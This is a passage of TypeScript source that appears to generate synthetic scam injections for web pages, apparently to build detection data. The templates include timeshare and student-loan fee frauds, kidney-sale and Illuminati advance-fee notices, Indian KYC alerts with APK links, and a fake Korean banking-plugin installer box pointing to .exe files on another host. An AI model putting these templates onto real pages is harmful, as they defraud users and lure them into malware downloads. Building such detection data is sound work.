  pt: ["Donos de timeshare: temos um comprador", (r, p) => `Um cliente corporativo quer comprar semanas em ${r} e pagará ${p}. A venda é garantida; você só paga a taxa reembolsável de fechamento, mantida em custódia.`, "Ligue para nossa central de revenda", "Agente de custódia licenciado"],
  it: ["Proprietari di multiproprietà: abbiamo un acquirente", (r, p) => `Un cliente aziendale vuole acquistare settimane a ${r} e pagherà ${p}. La vendita è garantita; copri solo la commissione di chiusura rimborsabile in deposito vincolato.`, "Chiama il nostro ufficio rivendite", "Agente di deposito autorizzato"]
}

// Timeshare resale and exit scams, recalled from memory of the US Federal Trade Commission's consumer advice on timeshare resale scams (about 2012–2023) and of the FBI's warning (about 2024) on Mexico-based cartels running timeshare fraud call centres: owners are told a buyer is waiting and must first pay closing, tax or escrow fees; the page advertises the resale desk's phone number and an "escrow" site.
const timeshareResale = fresh12("'we have a buyer for your timeshare, pay the refundable closing fee' resale scam with a call-centre number", (page, rng) => {
  const [h, p, call, esc2] = siteOr(rng, page, timeshareWords)
  const resort = pick(rng, ["Cancún", "Puerto Vallarta", "Los Cabos", "Orlando", "Tenerife", "the Algarve", "Marbella", "Lanzarote", "Las Vegas", "Hilton Head"])
  const phone = pick(rng, [`+1 (${between(rng, 800, 888)}) ${digits(rng, 3)}-${digits(rng, 4)}`, `+52 ${pick(rng, ["55", "33", "322", "998"])} ${digits(rng, 3)} ${digits(rng, 4)}`, intlMobile(rng)])
  const escrow = `https://${pick(rng, [`${pick(rng, ["secure", "global", "first", "trust"])}-escrow-${pick(rng, ["services", "title", "group"])}.${tld(rng)}`, randomDomain(rng)])}/${pick(rng, ["", "client", "wire"])}`
  const block = `<div class="${pick(rng, ["resale-offer", "timeshare", "owners-notice"])}" style="border:1px solid #2c3e50;padding:14px;margin:12px 0;background:#f7f9fb"><h3>🏖️ ${esc(h)}</h3><p>${esc(p(resort, page.site.locale.money(pick(rng, [18500, 24900, 32000, 41750, 56000]))))}</p><p>${esc(call)}: <a href="tel:${phone.replace(/[^\d+]/g, "")}"><b>${esc(phone)}</b></a></p><p><small>${esc(esc2)}: <a href="${esc(escrow)}">${esc(new URL(escrow).hostname)}</a></small></p></div>`
  return splices(insert(pick(rng, [noticeSpot(rng, page), spamSpot(rng, page)]), block))
})

const loanWords: Record<Lang, readonly [string, (a: string) => string, string, string, string, string]> = {
  en: ["Student loan forgiveness: final enrolment week", (a) => `You may qualify to have up to ${a} of your student debt cancelled under the new federal relief programme. Our certified counsellors file the paperwork for you for a one-time enrolment fee.`, "Full name", "Phone", "Last 4 digits of SSN", "Check my eligibility"],
  fr: ["Remise de prêt étudiant : dernière semaine d'inscription", (a) => `Vous pourriez obtenir l'annulation de ${a} de votre prêt étudiant grâce au nouveau dispositif public. Nos conseillers agréés montent le dossier pour vous contre des frais d'inscription uniques.`, "Nom complet", "Téléphone", "Numéro fiscal", "Vérifier mon éligibilité"],
  de: ["Erlass von Studienkrediten: letzte Anmeldewoche", (a) => `Sie könnten sich bis zu ${a} Ihres Studienkredits im Rahmen des neuen staatlichen Entlastungsprogramms erlassen lassen. Unsere zertifizierten Berater stellen den Antrag für eine einmalige Anmeldegebühr.`, "Vollständiger Name", "Telefon", "Steuer-ID", "Anspruch prüfen"],
  es: ["Condonación de préstamos estudiantiles: última semana", (a) => `Podría obtener la cancelación de hasta ${a} de su deuda estudiantil con el nuevo programa de alivio. Nuestros asesores certificados tramitan todo por una única cuota de inscripción.`, "Nombre completo", "Teléfono", "Últimos 4 dígitos del SSN / DNI", "Comprobar si califico"],
  nl: ["Kwijtschelding studieschuld: laatste inschrijfweek", (a) => `U komt mogelijk in aanmerking voor kwijtschelding van tot ${a} van uw studieschuld via de nieuwe regeling. Onze gecertificeerde adviseurs regelen de aanvraag voor een eenmalige inschrijfvergoeding.`, "Volledige naam", "Telefoon", "BSN", "Controleer of ik in aanmerking kom"],
  pt: ["Perdão de dívida estudantil: última semana de inscrição", (a) => `Você pode ter até ${a} da sua dívida estudantil perdoados pelo novo programa federal. Nossos consultores certificados cuidam de tudo por uma taxa única de inscrição.`, "Nome completo", "Telefone", "CPF", "Verificar se tenho direito"],
  it: ["Cancellazione del prestito studentesco: ultima settimana", (a) => `Potresti ottenere la cancellazione fino a ${a} del tuo prestito studentesco con il nuovo programma pubblico. I nostri consulenti certificati preparano la pratica per una quota di iscrizione una tantum.`, "Nome e cognome", "Telefono", "Codice fiscale", "Verifica se ho diritto"]
}

// Student-debt relief scams, recalled from memory of the US Federal Trade Commission's and Department of Education's warnings (about 2019–2023, and again after the 2022 forgiveness announcement) about companies charging upfront "enrolment" fees to file free forgiveness applications and asking for Social Security numbers and FSA IDs: a deadline banner with a form that collects name, phone and identity number for another host.
const studentLoanRelief = fresh12("'your student loan can be forgiven, final enrolment week' form taking an ID number and an upfront fee", (page, rng) => {
  const [h, p, nm, ph, id, cta] = siteOr(rng, page, loanWords)
  const sink = `https://${pick(rng, [`${pick(rng, ["student", "edu", "federal"])}${pick(rng, ["relief", "forgiveness", "debt"])}${pick(rng, ["center", "help", "now", ""])}.${tld(rng)}`, randomDomain(rng)])}/${pick(rng, ["apply", "enroll", "lead.php", "api/lead"])}`
  const block = `<div class="${pick(rng, ["relief-banner", "loan-forgiveness", "promo"])}" style="border:2px solid #003366;background:#eef4fb;padding:14px;margin:12px 0"><h3>🎓 ${esc(h)}</h3><p>${esc(p(page.site.locale.money(pick(rng, [10000, 20000, 45000, 60000]))))}</p><form action="${sink}" method="post"><input name="name" placeholder="${esc(nm)}"> <input type="tel" name="phone" placeholder="${esc(ph)}"> <input name="ssn" placeholder="${esc(id)}" maxlength="${pick(rng, [4, 11, 14])}"> <button type="submit" style="background:#c00;color:#fff;border:0;padding:6px 12px">${esc(cta)}</button></form><p style="font-size:10px;color:#666">${pick(rng, ["Processing fee $399, refundable if not approved.", "Not affiliated with any government agency.", "Enrolment fee applies."])}</p></div>`
  return splices(insert(pick(rng, [top(page), noticeSpot(rng, page)]), block))
})

const groceryWords: Record<Lang, readonly [(a: string) => string, string, string, string]> = {
  en: [(a) => `Seniors over 64: claim your ${a} grocery allowance card`, "A new benefit loads money every month onto a card you can use for food, rent and utilities. Most people on Medicare qualify but never claim it. Call now to see if you qualify – it takes 2 minutes.", "Call the benefits line", "Licensed insurance agents. Not connected with any government agency."],
  fr: [(a) => `Plus de 64 ans : demandez votre carte d'aide alimentaire de ${a}`, "Une nouvelle aide crédite chaque mois une carte utilisable pour les courses, le loyer et les factures. La plupart des retraités y ont droit sans le savoir. Appelez pour vérifier en 2 minutes.", "Appeler la ligne des aides", "Conseillers agréés. Sans lien avec un organisme public."],
  de: [(a) => `Ab 64: Holen Sie sich Ihre Lebensmittelkarte über ${a}`, "Eine neue Leistung lädt jeden Monat Geld auf eine Karte für Lebensmittel, Miete und Nebenkosten. Die meisten Rentner haben Anspruch, beantragen sie aber nie. Rufen Sie jetzt an – es dauert 2 Minuten.", "Leistungs-Hotline anrufen", "Zugelassene Berater. Keine Behörde."],
  es: [(a) => `Mayores de 64: solicite su tarjeta de ${a} para alimentos`, "Una nueva ayuda carga dinero cada mes en una tarjeta para comida, alquiler y facturas. La mayoría de los jubilados tiene derecho y nunca la pide. Llame ahora, solo son 2 minutos.", "Llamar a la línea de ayudas", "Agentes autorizados. Sin relación con organismos públicos."],
  nl: [(a) => `65-plussers: vraag uw boodschappenkaart van ${a} aan`, "Een nieuwe regeling zet elke maand geld op een kaart voor boodschappen, huur en energie. De meeste gepensioneerden hebben er recht op maar vragen het nooit aan. Bel nu – het duurt 2 minuten.", "Bel de regelingenlijn", "Erkende adviseurs. Geen overheidsinstantie."],
  pt: [(a) => `Maiores de 64: peça seu cartão alimentação de ${a}`, "Um novo benefício carrega dinheiro todo mês num cartão para mercado, aluguel e contas. A maioria dos aposentados tem direito e nunca pede. Ligue agora, leva 2 minutos.", "Ligar para a central de benefícios", "Corretores licenciados. Sem vínculo com o governo."],
  it: [(a) => `Over 64: richiedi la tua carta spesa da ${a}`, "Un nuovo sussidio ricarica ogni mese una carta per spesa, affitto e bollette. Quasi tutti i pensionati ne hanno diritto ma non la chiedono. Chiama ora, bastano 2 minuti.", "Chiama il numero dei sussidi", "Agenti autorizzati. Non collegati a enti pubblici."]
}

// "Grocery allowance" and flex-card ads, recalled from memory of the US Federal Trade Commission's and Medicare's warnings (about 2022–2023) about ads promising seniors a monthly grocery or "flex" card worth hundreds of dollars, which lead to call centres selling insurance plans and collecting Medicare numbers, and of the US Senate Finance Committee's report (2022) on deceptive Medicare Advantage marketing: a banner with a card picture, a phone number and small print saying it is not a government agency.
const groceryAllowance = fresh12("'seniors: claim your monthly grocery allowance card' benefits ad with a call-centre number", (page, rng) => {
  const [h, p, call, small] = siteOr(rng, page, groceryWords)
  const phone = pick(rng, [`1-${between(rng, 833, 888)}-${digits(rng, 3)}-${digits(rng, 4)}`, `(${between(rng, 800, 888)}) ${digits(rng, 3)}-${digits(rng, 4)}`, intlMobile(rng)])
  const amt = page.site.locale.money(pick(rng, [900, 1200, 3600, 6400]))
  const card = `<span style="display:inline-block;width:150px;height:90px;border-radius:8px;background:linear-gradient(135deg,#1b5e20,#66bb6a);color:#fff;font:bold 14px Arial;padding:10px;box-sizing:border-box;vertical-align:top;margin-right:10px">GROCERY<br>ALLOWANCE<br><small>•••• ${digits(rng, 4)}</small></span>`
  const block = `<div class="${pick(rng, ["benefits-ad", "sponsored", "seniors-offer"])}" style="border:1px solid #ccc;padding:12px;margin:12px 0;background:#fff">${card}<div style="display:inline-block;max-width:70%"><h3>🛒 ${esc(h(amt))}</h3><p>${esc(p)}</p><p><a href="tel:${phone.replace(/[^\d+]/g, "")}" style="background:#2e7d32;color:#fff;padding:8px 14px;text-decoration:none;font-weight:bold">📞 ${esc(call)}: ${esc(phone)}</a></p><p style="font-size:9px;color:#999">${esc(small)} TTY 711</p></div></div>`
  return splices(insert(pick(rng, [noticeSpot(rng, page), spamSpot(rng, page)]), block))
})

// "Aviator predictor" spam, recalled from memory with uncertain details of news reports and security blogs (about 2022–2024, from India, Nigeria, Kenya and Brazil) on paid Telegram channels, APKs and "hacks" claiming to predict when the plane leaves in the crash game Aviator (by Spribe, 2019), sold to gamblers; the page gains an advert with a fake signal table, an APK download and a Telegram channel.
const aviatorPredictor = fresh12("'Aviator predictor' crash-game signal bot and APK sold through a Telegram channel", (page, rng) => {
  const chan = `${pick(rng, ["aviator", "aviatorpro", "avi", "crash"])}${pick(rng, ["_signals", "predictor", "_hack", "vip", "_king"])}${digits(rng, 2)}`
  const apk = `https://${pick(rng, [`aviator-${pick(rng, ["predictor", "hack", "signal"])}.${tld(rng)}`, randomDomain(rng)])}/${pick(rng, ["download/", "apk/", ""])}${pick(rng, ["AviatorPredictor", "aviator_hack", "AviPro"])}_v${between(rng, 2, 9)}.${between(rng, 0, 9)}.apk`
  const rows = Array.from({ length: between(rng, 4, 7) }, () => {
    const odds = (between(rng, 110, 1500) / 100).toFixed(2)
    return `<tr><td>${String(between(rng, 8, 23)).padStart(2, "0")}:${String(between(rng, 0, 59)).padStart(2, "0")}</td><td>${odds}x</td><td style="color:#1b5e20">✅ WIN</td></tr>`
  }).join("")
  const promo = upper(rng, 3) + digits(rng, 3)
  const block = `<div class="${pick(rng, ["aviator", "signals", "promo-box"])}" style="background:#141414;color:#fff;padding:14px;margin:12px 0;border-radius:8px;font-family:Arial,sans-serif"><h3 style="color:#e50539">✈️ AVIATOR PREDICTOR ${pick(rng, ["2025", "2026", "PRO", "V" + between(rng, 3, 9)])} – ${between(rng, 95, 99)}% ${pick(rng, ["accuracy", "accurate signals"])}</h3><p>${pick(rng, ["Know exactly when the plane flies away. Cash out before the crash every time.", "Our AI bot reads the game server and sends the next multiplier before each round.", "Turn ₹500 into ₹50,000 today with our live signals."])}</p><table style="color:#fff;width:100%;max-width:320px">${rows}</table><p><a href="${esc(apk)}" style="background:#e50539;color:#fff;padding:6px 12px;text-decoration:none">⬇ APK</a> <a href="https://t.me/${chan}" style="background:#229ed9;color:#fff;padding:6px 12px;text-decoration:none">Telegram @${chan}</a></p><p style="font-size:11px">Promo code: <b>${promo}</b> · ${pick(rng, ["1Win", "1xBet", "Betway", "Mostbet", "Parimatch", "4rabet"])}</p></div>`
  return splices(insert(spamSpot(rng, page), block))
})

const gamstopCasinos = ["Lucky Barons", "Velobet", "Goldenbet", "Freshbet", "Rolletto", "Cosmobet", "Donbet", "Mr Pacho", "Spinstar", "Jokery", "Harry's Casino", "Luckster", "Winstler", "Slotuna"]

// "Casinos not on GamStop" link spam, recalled from memory with uncertain details of UK Gambling Commission warnings (about 2020–2024) about unlicensed offshore casinos marketed to people who had self-excluded through GamStop, and of reports in the UK press and SEO trade press (about 2021–2024) on links for "casinos not on GamStop" bought on, or injected into, news, charity and university sites: a ranked list of such casinos with bonuses and links (often marked sponsored or hidden in small print).
const notOnGamstop = fresh12("'casinos not on GamStop' ranked list and links (aimed at self-excluded gamblers)", (page, rng) => {
  const host = () => pick(rng, [`${pick(rng, ["nongamstop", "notongamstop", "casinos-not-on-gamstop", "non-gamstop"])}${pick(rng, ["", "sites", "casinos", "uk"])}.${pick(rng, ["com", "co.uk", "net", "org", "uk"])}`, randomDomain(rng)])
  const list = sample(rng, gamstopCasinos, between(rng, 3, 6))
  const anchor = pick(rng, ["casinos not on GamStop", "non GamStop casinos", "UK casinos not on GamStop", "betting sites not on GamStop", "slots not on GamStop"])
  const items = list.map((c, i) => `<li><b>${i + 1}. ${esc(c)}</b> – ${pick(rng, ["200% up to £1,000", "no GamStop, no KYC", "£500 + 150 free spins", "crypto accepted, instant withdrawals", "accepts UK players"])} – <a href="https://${host()}/${slug(c)}/" rel="${pick(rng, ["sponsored", "nofollow", "dofollow"])}">${pick(rng, ["Play now", "Visit", "Claim bonus"])}</a></li>`).join("")
  const block = pick(rng, [
    () => `<div class="${pick(rng, ["casino-list", "sponsored", "partners"])}"><h3>${esc(cap(anchor))} ${between(rng, 2025, 2026)}</h3><p>${pick(rng, ["Self-excluded? You can still play at these trusted UK-friendly casinos.", "The best sites that are not part of the GamStop scheme, reviewed by our experts."])}</p><ol style="list-style:none;padding:0">${items}</ol></div>`,
    () => `<p style="font-size:${pick(rng, ["10px", "11px", "1px"])}">${pick(rng, ["Sponsored:", "Partners:", ""])} <a href="https://${host()}/">${esc(anchor)}</a>${chance(rng, 0.5) ? ` · <a href="https://${host()}/">${esc(pick(rng, ["non gamstop casinos", "gambling sites not on gamstop"]))}</a>` : ""}</p>`
  ])()
  return splices(insert(spamSpot(rng, page), block))
})

// Organ-sale spam, recalled from memory of the "we are in urgent need of kidney donors for the sum of $500,000" posts found for years on forums, comment sections, classified sites and hacked blogs (reported by Indian and Nigerian police and by fact-checkers, about 2015–2023), an advance-fee scheme that asks donors for "registration" and "medical test" fees: a notice with a hospital name, the sum, a doctor's e-mail and a WhatsApp number.
const kidneyDonors = fresh12("'kidney donors needed for $500,000' organ-sale notice with a doctor's WhatsApp (advance-fee fraud)", (page, rng) => {
  const doctor = `Dr. ${pick(rng, ["James", "Peter", "Mark", "Ahmed", "Raj", "Michael", "Robert"])} ${pick(rng, ["Williams", "Cole", "Kumar", "Benson", "Smith", "Patel", "Carter"])}`
  const hosp = pick(rng, ["Apollo Kidney Center", "St. Mary's Transplant Hospital", "Global Kidney Foundation", "Life Care Renal Institute", "Fortune Kidney Clinic"])
  const mail = `${slug(doctor).replace(/-/g, "")}${digits(rng, 2)}@${pick(rng, ["gmail.com", "outlook.com", "yahoo.com", "hospital-mail.com", "protonmail.com"])}`
  const wa = intlMobile(rng)
  const sum = pick(rng, ["$500,000", "$450,000", "$780,000", "€400,000", "₹4 crore", "£350,000"])
  const body = pick(rng, [
    `WE ARE URGENTLY IN NEED OF KIDNEY DONORS for the sum of ${sum} USD. ${hosp} is buying kidneys from healthy donors with blood group ${pick(rng, ["A+", "B+", "O+", "AB+", "O-"])}. Half of the money is paid before the operation. Contact ${doctor} by e-mail: ${mail} or WhatsApp ${wa}.`,
    `Do you want to sell your kidney for money? Are you in financial crisis? ${hosp} offers ${sum} for one kidney. Reply now: ${mail} · WhatsApp: ${wa}.`,
    `${doctor}, ${hosp}: we need kidney donors urgently. Offer: ${sum}. Registration fee applies for the medical test. Email ${mail}, call or WhatsApp ${wa}.`
  ])
  const block = pick(rng, [
    () => `<div class="${pick(rng, ["comment", "post", "notice"])}" style="border:1px solid #ddd;padding:10px;margin:10px 0"><p>${esc(body)}</p></div>`,
    () => `<p>${esc(body)} <a href="${waLink(wa)}">WhatsApp</a></p>`,
    () => `<section><h3>${pick(rng, ["KIDNEY DONORS NEEDED", "SELL YOUR KIDNEY", "URGENT: KIDNEY DONOR"])}</h3><p>${esc(body)}</p><p><a href="mailto:${esc(mail)}">${esc(mail)}</a></p></section>`
  ])()
  return splices(insert(spamSpot(rng, page), block))
})

// "Join the Illuminati" recruitment spam, recalled from memory with uncertain details of BBC and African press reports (about 2016–2022) on scams in South Africa, Nigeria, Uganda and Kenya that promise wealth, fame and protection to those who "join the Illuminati" for a membership fee, advertised with phone numbers in comment spam, on posters and on hacked pages: a block with the pyramid, the promise of money and a phone or WhatsApp number.
const illuminatiRecruitment = fresh12("'join the Illuminati and get rich' recruitment spam with a WhatsApp number and a membership fee", (page, rng) => {
  const wa = intlMobile(rng)
  const agent = pick(rng, ["Agent Mike", "Grand Master Joseph", "Lord Bayo", "Dr. Ahmed", "Agent Smith", "Brother Daniel"])
  const mail = `${pick(rng, ["illuminati", "join.illuminati", "great.illuminati", "illuminati.temple"])}${digits(rng, 3)}@${freeMail(rng)}`
  const body = pick(rng, [
    `Do you want to be rich, famous and powerful? Join the Great Illuminati Temple today and receive $${pick(rng, ["1,000,000", "5,000,000", "250,000"])} immediately after initiation, a new car and a house of your choice. No human sacrifice. Call or WhatsApp ${agent} on ${wa}.`,
    `JOIN THE ILLUMINATI 🔺👁️ Are you a pastor, politician, musician or businessman who wants to be great? Contact us now: ${mail} · WhatsApp ${wa}. Membership fee applies.`,
    `Hail Illuminati! I was poor until I joined the brotherhood; today I own three companies. Contact ${agent} if you want to join: ${wa} or ${mail}.`
  ])
  const block = `<div class="${pick(rng, ["comment", "testimony", "ad"])}" style="border:1px solid #d4af37;background:#0b0b0b;color:#d4af37;padding:12px;margin:10px 0;text-align:center"><p style="font-size:28px;margin:0">🔺👁️🔺</p><p>${esc(body)}</p><p><a href="${waLink(wa)}" style="color:#fff">WhatsApp ${esc(wa)}</a></p></div>`
  return splices(insert(spamSpot(rng, page), block))
})

// Leaked-exam "expo" sellers, recalled from memory with uncertain details of the warnings by the West African Examinations Council and of Nigerian press reports (Premium Times, Punch, about 2016–2023) on "expo" and "runz" sites and Telegram channels selling supposed answers to WAEC and NECO papers before the exams, paid by bank transfer or mobile airtime; and of the same trade around India's board and entrance exams: a subscription price table, "verified answers", a WhatsApp and a Telegram channel.
const examExpo = fresh12("'WAEC / NECO / board exam answers before the paper' expo subscription paid by airtime or transfer", (page, rng) => {
  const exam = pick(rng, ["WAEC", "NECO", "NABTEB", "GCE", "JAMB CBT", "CBSE Class 12", "SSC board"])
  const y = between(rng, 2025, 2026)
  const wa = intlMobile(rng)
  const chan = `${exam.split(" ")[0]!.toLowerCase()}${pick(rng, ["expo", "runz", "answers", "leak"])}${y}`
  const rows = sample(rng, [["All subjects", "₦12,000"], ["English + Maths", "₦4,000"], ["Science package", "₦7,500"], ["Per subject", "₦1,500"], ["Midnight runs (all papers)", "₦20,000"], ["Per paper", "₹999"], ["Full set (PDF)", "₹4,999"]], between(rng, 2, 4)).map(([a, b]) => `<tr><td>${a}</td><td><b>${b}</b></td></tr>`).join("")
  const block = `<div class="${pick(rng, ["expo", "exam-help", "promo"])}" style="border:2px solid #1565c0;padding:14px;margin:12px 0;background:#f0f6ff"><h3>📚 ${esc(exam)} ${y} ${pick(rng, ["EXPO / RUNZ – 100% verified answers", "QUESTIONS & ANSWERS available now", "REAL QUESTION PAPER LEAK"])}</h3><p>${pick(rng, ["Get the answers to every paper 1–6 hours before the exam, sent directly to your WhatsApp.", "Our team gets the papers from inside. Subscribe now before the price goes up.", "Pass with A1 in all subjects. No story, no failure."])}</p><table>${rows}</table><p>${pick(rng, ["Pay by MTN or Airtel airtime, or bank transfer, then send proof.", "Payment: airtime PIN or transfer. Send screenshot to confirm.", "UPI or Paytm accepted."])}</p><p><a href="${waLink(wa)}">WhatsApp ${esc(wa)}</a> · <a href="https://t.me/${chan}">Telegram t.me/${chan}</a></p></div>`
  return splices(insert(pick(rng, [noticeSpot(rng, page), spamSpot(rng, page)]), block))
})

// Indian KYC-update fraud, recalled from memory of the Reserve Bank of India's press releases and advisories (about 2021–2023) on frauds in the name of KYC updates, of the Press Information Bureau's fact-check of messages (2023) claiming a State Bank of India YONO account would be blocked unless the PAN was updated through a link, and of police warnings about "KYC expired" calls that lead to remote-access apps: a red banner warning that the account will be blocked today, with a link, an APK or a helpline number.
const kycUpdate = fresh12("'update your PAN / KYC today or your bank account will be blocked' notice with a link, APK or helpline (Indian KYC fraud)", (page, rng) => {
  const bank = pick(rng, ["SBI YONO", "HDFC Bank", "ICICI Bank", "Axis Bank", "Punjab National Bank", "Bank of Baroda", "Paytm Payments Bank"])
  const short = bank.split(" ")[0]!.toLowerCase()
  const url = pick(rng, [
    `https://${short}-kyc-${pick(rng, ["update", "online", "verify"])}.${tld(rng)}/`,
    `https://${pick(rng, ["bit.ly", "tinyurl.com", "cutt.ly"])}/${alnum(rng, 7)}`,
    `https://${randomDomain(rng)}/${short}/${pick(rng, ["pan", "kyc", "aadhaar"])}-update.apk`
  ])
  const help = `+91 ${pick(rng, ["9", "8", "7"])}${digits(rng, 4)} ${digits(rng, 5)}`
  const msg = pick(rng, [
    `Dear Customer, your ${bank} account will be BLOCKED today. Please update your PAN card immediately.`,
    `Dear ${bank} user, your KYC has expired. Your account will be suspended within 24 hours. Complete e-KYC now.`,
    `Alert: your ${bank} net banking is temporarily blocked. Update your Aadhaar and PAN to reactivate.`
  ])
  const block = `<div class="${pick(rng, ["kyc-alert", "alert alert-danger", "bank-notice"])}" style="border-left:6px solid #d32f2f;background:#fff0f0;padding:12px 16px;margin:12px 0"><p><b>⚠️ ${esc(msg)}</b></p><p>${pick(rng, ["Update now", "Click here to update KYC", "Complete PAN update"])}: <a href="${esc(url)}">${esc(url)}</a></p><p>${pick(rng, ["KYC helpline", "Customer care", "For help call"])}: <a href="tel:${help.replace(/\s/g, "")}">${esc(help)}</a></p>${chance(rng, 0.4) ? `<p lang="hi">प्रिय ग्राहक, आपका खाता आज बंद कर दिया जाएगा। कृपया तुरंत अपना पैन कार्ड अपडेट करें।</p>` : ""}</div>`
  return splices(insert(pick(rng, [top(page), noticeSpot(rng, page)]), block))
})

const koreanModules = [["AnySign4PC", "anysign4pc"], ["TouchEn nxKey", "nxkey"], ["IPinside LWS Agent", "ipinside"], ["Veraport", "veraport"], ["MagicLine4NX", "magicline4nx"], ["Delfino G3", "delfino"], ["CrossEX Service", "crossex"], ["INISAFE CrossWeb EX", "crossweb"]] as const
const moduleWords: Record<Lang, readonly [string, string]> = {
  en: ["Security program installation required", "To use this service safely, please install the security programs below and reload the page."],
  fr: ["Installation du module de sécurité requise", "Pour utiliser ce service en toute sécurité, installez les programmes de sécurité ci-dessous puis rechargez la page."],
  de: ["Installation des Sicherheitsmoduls erforderlich", "Um diesen Dienst sicher zu nutzen, installieren Sie bitte die folgenden Sicherheitsprogramme und laden Sie die Seite neu."],
  es: ["Es necesario instalar el módulo de seguridad", "Para usar este servicio de forma segura, instale los programas de seguridad siguientes y recargue la página."],
  nl: ["Installatie van beveiligingsmodule vereist", "Installeer de onderstaande beveiligingsprogramma's en laad de pagina opnieuw om deze dienst veilig te gebruiken."],
  pt: ["É necessário instalar o módulo de segurança", "Para usar este serviço com segurança, instale os programas de segurança abaixo e recarregue a página."],
  it: ["Installazione del modulo di sicurezza richiesta", "Per usare questo servizio in sicurezza, installa i programmi di sicurezza qui sotto e ricarica la pagina."]
}

// Watering holes built on Korea's mandatory security plug-ins, recalled from memory of ESET's report (November 2020) on Lazarus abusing the WIZVERA VeraPort installer through compromised South Korean websites, of Kaspersky's "Operation SyncHole" (April 2025) in which compromised Korean news sites filtered visitors and led them to pages exploiting Cross EX and other Korean security software, and of AhnLab's reports on such watering holes: the page gains the familiar "security program installation required" box (in Korean, with the site's language beside it) listing modules whose installers come from another host.
const koreanSecurityModule = fresh12("'security program installation required' box listing Korean banking plug-ins (Veraport, TouchEn nxKey...) served from another host", (page, rng) => {
  const [h, p] = siteOr(rng, page, moduleWords)
  const host = pick(rng, [`${pick(rng, ["update", "down", "dl", "ssl"])}.${pick(rng, ["wizvera", "raonsecure", "interezen", "dreamsecurity", "initech", "yessign"])}-${pick(rng, ["cdn", "kr", "soft"])}.${pick(rng, ["com", "net", "co.kr", "kr"])}`, randomDomain(rng)])
  const mods = sample(rng, koreanModules, between(rng, 2, 5))
  const rows = mods.map(([n, f]) => `<tr><td>${esc(n)}</td><td>${pick(rng, ["키보드 보안", "공동인증서", "단말기 정보 수집", "통합 설치", "전자서명"])}</td><td style="color:#d32f2f">미설치</td><td><a href="https://${host}/${pick(rng, ["download", "install", "setup"])}/${f}_${pick(rng, ["setup", "installer", "x64"])}.exe">${pick(rng, ["다운로드", "설치하기"])}</a></td></tr>`).join("")
  const block = `<div class="${pick(rng, ["secu-install", "install-guide", "plugin-check"])}" style="border:2px solid #1a4d9c;background:#f5f8ff;padding:14px;margin:12px 0;font-family:'Malgun Gothic',Dotum,sans-serif"><h3>🔒 보안 프로그램 설치 안내 · ${esc(h)}</h3><p>안전한 서비스 이용을 위해 아래 보안 프로그램을 설치하신 후 새로고침 해주세요.</p><p>${esc(p)}</p><table style="width:100%;border-collapse:collapse" border="1"><tr><th>프로그램명</th><th>설명</th><th>상태</th><th>설치</th></tr>${rows}</table>${chance(rng, 0.5) ? `<p><a href="https://${host}/${pick(rng, ["veraport", "integrated"])}/${pick(rng, ["veraport-g3-x64.exe", "SecuritySetup.exe", "all_in_one_setup.exe"])}"><b>${pick(rng, ["통합 설치 프로그램 다운로드", "한번에 설치하기"])}</b></a></p>` : ""}</div>`
  return splices(insert(pick(rng, [top(page), noticeSpot(rng, page)]), block))
})

const visaWords: Record<Lang, readonly [string, (fee: string) => string, string]> = {
  en: ["Care workers wanted – UK visa sponsorship", (f) => `We are a licensed sponsor with over 100 open positions for senior carers and support workers. Certificate of Sponsorship (CoS) issued within 10 days. Processing fee ${f}, paid once your offer letter is ready.`, "Apply now on WhatsApp"],
  fr: ["Recrutement d'aides-soignants – visa de travail pour le Royaume-Uni", (f) => `Employeur agréé, nous recrutons des aides à domicile et auxiliaires de vie. Certificat de parrainage (CoS) délivré en 10 jours. Frais de dossier ${f}, payables dès réception de la lettre d'offre.`, "Postuler sur WhatsApp"],
  de: ["Pflegekräfte gesucht – Visumsponsoring für Großbritannien", (f) => `Als lizenzierter Sponsor besetzen wir Stellen für Pflege- und Betreuungskräfte. Sponsorship-Zertifikat (CoS) in 10 Tagen. Bearbeitungsgebühr ${f}, fällig mit dem Angebotsschreiben.`, "Jetzt per WhatsApp bewerben"],
  es: ["Se buscan cuidadores – patrocinio de visado para Reino Unido", (f) => `Somos patrocinador autorizado con plazas para cuidadores y auxiliares. Certificado de patrocinio (CoS) en 10 días. Tasa de tramitación ${f}, a pagar cuando tenga su carta de oferta.`, "Solicitar por WhatsApp"],
  nl: ["Zorgmedewerkers gezocht – visumsponsoring voor het VK", (f) => `Als erkende sponsor hebben wij vacatures voor verzorgenden en begeleiders. Certificate of Sponsorship (CoS) binnen 10 dagen. Behandelkosten ${f}, te betalen zodra uw aanbiedingsbrief klaar is.`, "Solliciteer via WhatsApp"],
  pt: ["Contratamos cuidadores – patrocínio de visto para o Reino Unido", (f) => `Somos patrocinador licenciado com vagas para cuidadores e auxiliares. Certificado de Patrocínio (CoS) emitido em 10 dias. Taxa de processamento ${f}, paga quando sua carta de oferta estiver pronta.`, "Candidate-se pelo WhatsApp"],
  it: ["Cercasi operatori socio-sanitari – sponsorizzazione del visto UK", (f) => `Siamo sponsor autorizzati con posti per badanti e operatori di supporto. Certificato di sponsorizzazione (CoS) in 10 giorni. Costo della pratica ${f}, da pagare quando la lettera d'offerta è pronta.`, "Candidati su WhatsApp"]
}

// Care-worker visa sponsorship scams, recalled from memory of BBC and Guardian investigations (about 2022–2024) into agents and fake employers who sold UK Certificates of Sponsorship to care workers from India, Nigeria, Zimbabwe and the Philippines for thousands of pounds, and of the Home Office's guidance that sponsors may not charge workers for the certificate: a recruitment notice with a fee, an agent's WhatsApp and a CV e-mail on a free mail service.
const careVisaSponsorship = fresh12("'care workers wanted, UK visa sponsorship, Certificate of Sponsorship for a fee' recruitment notice with an agent's WhatsApp", (page, rng) => {
  const [h, p, cta] = siteOr(rng, page, visaWords)
  const wa = intlMobile(rng)
  const mail = `${pick(rng, ["uk.care.jobs", "careers.sponsor", "hr.recruit", "nhs.carejobs"])}${digits(rng, 2)}@${freeMail(rng)}`
  const fee = pick(rng, ["£2,500", "£4,800", "£7,000", "£12,000", "₦3,500,000", "₹6,00,000"])
